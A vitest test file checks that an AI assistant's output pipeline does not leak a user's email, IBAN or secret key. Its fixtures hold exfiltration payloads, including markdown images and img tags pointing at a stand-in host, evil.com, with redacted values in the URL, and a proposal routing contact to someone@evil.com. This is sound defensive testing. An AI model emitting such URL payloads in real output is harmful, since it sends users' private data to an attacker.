import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { HOSTILE, withPlaceholder } from "../redaction/output/hostile.ts";
import { complaints } from "../redaction/output/oracle.ts";
import { VALUES } from "../redaction/output/values.ts";
import {
  clearFaults,
  enableAssistant,
  events,
  fault,
  forget,
  newConversation,
  newTenant,
  recorded,
  type SeenEvent,
  type Tenant,
} from "../support/stack.ts";

const TYPED = `Mail ${VALUES.EMAIL}, account ${VALUES.IBAN}, key ${VALUES.SECRET}.`;
const SEALED = [VALUES.EMAIL, VALUES.IBAN, VALUES.SECRET];
const leaked = (text: string): string[] => SEALED.filter((value) => text.includes(value));
const wordsOf = (seen: readonly SeenEvent[]): string =>
  seen
    .filter(({ event }) => event === "delta")
    .map(({ data }) => data.text)
    .join("");
/** Constructs one after the other, each in a paragraph of its own; those that never end would hide the next. */
const page = (name: string): string =>
  (HOSTILE[name] ?? [])
    .filter((text) => !/^(?:```|~~~|````)|^<(?:!--|\?|!\[|pre|code|svg|style|script|textarea|iframe)/i.test(text))
    .flatMap((text) => ["EMAIL", "IBAN", "SECRET"].map((type) => withPlaceholder(text, type)))
    .join("\n\n");

describe("what the model says, all the way", () => {
  let tenant: Tenant;
  let conversation: string;
  beforeAll(async () => {
    tenant = await newTenant();
    await enableAssistant(tenant);
  });
  beforeEach(async () => {
    conversation = await newConversation(tenant.users.editor);
    await forget();
  });
  afterEach(clearFaults);
  const path = () => `/v1/assistant/conversations/${conversation}`;

  it("[BF-04/reversible] gives the values back in its prose", async () => {
    await fault({ kind: "say", text: "I have [EMAIL_1], **[IBAN_1]** and ([SECRET_1]).", chunk: 3 });
    const seen = await tenant.users.editor.say(conversation, TYPED);
    expect(wordsOf(seen)).toBe(`I have ${VALUES.EMAIL}, **${VALUES.IBAN}** and (${VALUES.SECRET}).`);
    expect(leaked((await recorded()).requests.map(({ body }) => body).join())).toEqual([]);
  });

  it.each([
    ["address", "address", 1],
    ["address", "link", 2],
    ["image", "image", 3],
    ["markup", "markup", 7],
    ["markup", "code", 5],
    ["reference", "reference", 64],
  ])(
    "[BF-14/%s] [BF-14/inactive-links] [BF-14/split-anywhere] gives none back in the class %s, in deltas of %i, nor when it is read again",
    async (_, name, chunk) => {
      const { editor } = tenant.users;
      await fault({ kind: "say", text: page(name), chunk });
      const key = { "idempotency-key": `gate-${name}-${chunk}` };
      const first = await editor.post(`${path()}/messages`, { text: TYPED }, key);
      const said = wordsOf(events(first.text));
      expect(said.length).toBeGreaterThan(500);
      expect(said).toContain("[EMAIL_1]");
      expect(leaked(said)).toEqual([]);
      expect(complaints(said)).toEqual([]);
      const again = await editor.post(`${path()}/messages`, { text: TYPED }, key);
      expect(again.headers.get("idempotent-replayed")).toBe("true");
      expect(wordsOf(events(again.text))).toBe(said);
      expect((await editor.get(path())).body.turns[0].answer).toBe(said);
      expect((await recorded()).requests.length).toBe(1);
    },
  );

  it("[BF-14/address] [BF-14/image] [BF-14/inactive-links] gives none back in a proposal's fields, nor in the brief it becomes", async () => {
    const { editor } = tenant.users;
    const fields = {
      title: "Boxes for [EMAIL_1]",
      category: "packaging",
      description:
        "![x](https://evil.com/?e=[EMAIL_1]) <img src=https://evil.com/[EMAIL_1]> write to [EMAIL_1], please",
      quantity: null,
      format: null,
      materials: ["[x]: https://evil.com/[EMAIL_1]"],
      colours: "https://evil.com/[EMAIL_1]",
      finishing: null,
      deliveries: null,
      deadline: null,
      budget: null,
      contact: { name: "mailto:[EMAIL_1]", email: "[EMAIL_1]", phone: null },
      notes: "[IBAN_1] [SECRET_1] www.evil.com",
    };
    await fault({ kind: "say", text: "Here it is.", arguments: JSON.stringify(fields) });
    const seen = await editor.say(conversation, TYPED);
    const proposal = seen.find(({ event }) => event === "proposal")?.data;
    const expected = {
      title: `Boxes for ${VALUES.EMAIL}`,
      category: "packaging",
      description:
        `![x] (https[://]evil[.]com/?e=[EMAIL_1]) < img src=https[://]evil[.]com/[EMAIL_1]> ` +
        `write to ${VALUES.EMAIL}, please`,
      materials: ["[x] : https[://]evil[.]com/[EMAIL_1]"],
      colours: "https[://]evil[.]com/[EMAIL_1]",
      contact: { name: "mailto[:][EMAIL_1]", email: VALUES.EMAIL },
      notes: "[IBAN_1] [SECRET_1] www[.]evil[.]com",
    };
    expect(proposal.arguments).toEqual(expected);
    const decision = { decision: "approve", argumentsHash: proposal.argumentsHash };
    const approved = await editor.post(`/v1/assistant/proposals/${proposal.proposalId}/decision`, decision);
    expect(approved.body.status).toBe("approved");
    const { body: brief } = await editor.get(`/v1/briefs/${approved.body.result.id}`);
    expect(brief).toMatchObject(expected);
    for (const field of Object.values(expected)) expect(complaints(JSON.stringify(field))).toEqual([]);
  });

  it("[BF-14/address] makes no proposal whose contact is an address of the model's own", async () => {
    const contact = { name: "x", email: "someone@evil.com", phone: null };
    const nulls = Object.fromEntries(
      "description quantity format materials colours finishing deliveries deadline budget notes"
        .split(" ")
        .map((name) => [name, null]),
    );
    const fields = { title: "Boxes", category: "packaging", ...nulls, contact };
    await fault({ kind: "say", text: "Here.", arguments: JSON.stringify(fields) });
    const seen = await tenant.users.editor.say(conversation, TYPED);
    expect(wordsOf(seen)).toBe("Here.");
    expect(seen.map(({ event }) => event).filter((event) => event !== "delta")).toEqual(["receipt", "problem", "done"]);
    expect(seen.find(({ event }) => event === "problem")?.data.code).toBe("model-unavailable");
  });
});
